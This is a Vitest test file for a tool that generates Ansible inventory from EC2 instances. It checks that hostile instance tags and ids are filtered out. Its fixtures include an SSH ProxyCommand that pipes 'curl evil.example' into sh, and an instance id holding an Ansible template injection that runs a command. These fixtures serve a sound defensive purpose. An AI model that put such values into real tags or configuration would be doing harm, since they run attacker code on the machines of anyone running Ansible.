import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runInventory } from '../../src/generate/cli-inventory.ts';
import type { GenerationModel } from '../../src/generate/model.ts';
import { inventoryModel } from './inventory-fixture.ts';

async function run(argv: string[], loadModel = async () => inventoryModel) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await runInventory(argv, {
    loadModel,
    out: (l) => out.push(l),
    err: (l) => err.push(l),
  });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

describe('fleetline inventory', () => {
  it('--list prints the Ansible JSON', async () => {
    const r = await run(['--list']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out).role_web.hosts).toEqual(['i-new', 'i-web0', 'i-web2']);
  });

  it('--host prints hostvars, and exits 1 with {} for an unknown host', async () => {
    expect(JSON.parse((await run(['--host', 'i-db0'])).out).private_ip).toBe('10.0.2.10');
    const r = await run(['--host', 'ghost']);
    expect(r).toMatchObject({ code: 1, out: '{}' });
    expect(r.err).toContain('unknown host "ghost"');
  });

  it('--ssh-config and --hosts print their formats', async () => {
    expect((await run(['--ssh-config'])).out).toContain('Host web-0 i-web0');
    expect(JSON.parse((await run(['--hosts'])).out)).toHaveLength(5);
  });

  it('needs exactly one mode and rejects unknown flags (exit 2)', async () => {
    expect((await run([])).code).toBe(2);
    expect((await run(['--list', '--hosts'])).code).toBe(2);
    const r = await run(['--lsit']);
    expect(r.code).toBe(2);
    expect(r.err).toContain("Unknown option '--lsit'");
  });

  it('reports a registry that cannot be read (exit 1)', async () => {
    const r = await run(['--list'], async () => {
      throw new Error('database is locked');
    });
    expect(r.code).toBe(1);
    expect(r.err).toContain('database is locked');
  });
});

describe('fleetline inventory with hostile EC2 tags', () => {
  const proxy = '-o ProxyCommand="sh -c \'curl -s evil.example | sh\'"';
  const tagged: GenerationModel = {
    roles: [],
    measurements: [],
    instances: [
      {
        instanceId: 'i-tagged',
        role: 'web',
        version: '1.0',
        slot: 0,
        privateIp: '10.0.9.1',
        launchedAt: 0,
        attributes: { ansible_ssh_common_args: proxy, env: 'prod', db_password: 's3cr3t' },
      },
    ],
  };
  const configFile = (yaml: string) => {
    const file = join(mkdtempSync(join(tmpdir(), 'fleetline-inv-')), 'fleetline.yaml');
    writeFileSync(file, yaml);
    return file;
  };
  const hostvarsOf = (out: string) => JSON.parse(out)._meta.hostvars['i-tagged'];

  it('--list and --host expose no tag by default', async () => {
    const file = configFile('log_level: warn\n');
    const list = await run(['--list', '--config', file], async () => tagged);
    expect(list.code).toBe(0);
    expect(list.out).not.toContain('ProxyCommand');
    expect(list.out).not.toContain('s3cr3t');
    expect(hostvarsOf(list.out)).toMatchObject({ ansible_host: '10.0.9.1' });
    const host = await run(['--host', 'i-tagged', '--config', file], async () => tagged);
    expect(JSON.parse(host.out)).not.toHaveProperty('ansible_ssh_common_args');
    expect(JSON.parse(host.out)).not.toHaveProperty('env');
  });

  it('follows inventory.tag_hostvars from --config, never making an ansible_* variable', async () => {
    const file = configFile(
      "inventory:\n  tag_hostvars: ['env', 'ansible_*']\n  tag_hostvar_prefix: ''\n",
    );
    const r = await run(['--list', '--config', file], async () => tagged);
    expect(r.code).toBe(0);
    const vars = hostvarsOf(r.out);
    expect(vars).toMatchObject({ env: 'prod', ansible_host: '10.0.9.1' });
    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(r.out).not.toContain('ProxyCommand');
    expect(r.err).toContain('ansible_ssh_common_args');
    expect(r.err).toContain('reserved');
  });

  it('leaves out an instance whose id Ansible would template, and says so on stderr', async () => {
    const evil = "{{ lookup('pipe', 'id') }}";
    const model: GenerationModel = {
      ...tagged,
      instances: [...tagged.instances, { ...tagged.instances[0]!, instanceId: evil, slot: 1 }],
    };
    const r = await run(['--list', '--config', configFile('log_level: warn\n')], async () => model);
    expect(r.code).toBe(0);
    expect(r.out).not.toContain('lookup');
    expect(Object.keys(JSON.parse(r.out)._meta.hostvars)).toEqual(['i-tagged']);
    expect(r.err).toContain(`instance ${JSON.stringify(evil)} left out`);
  });

  it('reports a configuration that is not valid (exit 1)', async () => {
    const file = configFile('inventory:\n  tag_hostvar_prefix: "tag-"\n');
    const r = await run(['--list', '--config', file], async () => tagged);
    expect(r.code).toBe(1);
    expect(r.err).toContain('inventory.tag_hostvar_prefix');
  });
});
